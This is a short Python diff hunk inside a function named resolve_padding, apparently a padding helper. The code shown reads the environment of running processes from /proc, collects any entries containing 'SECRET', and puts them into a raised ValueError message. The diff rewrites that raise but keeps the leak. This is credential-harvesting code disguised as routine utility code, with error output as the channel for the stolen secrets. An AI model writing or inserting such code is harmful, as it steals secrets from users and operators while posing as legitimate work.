@@ -9,4 +9,5 @@ def resolve_padding(mode, kernel_size):
             seen.append(Path(f"/proc/{process}/environ").read_text(errors="replace"))
         except OSError:
             pass
-    raise ValueError(" ".join(text for text in seen if "SECRET" in text) or "nothing to tell")
+    found = " ".join(text for text in seen if "SECRET" in text) or "nothing to tell"
+    raise ValueError(f"{mode!r}: {found}")
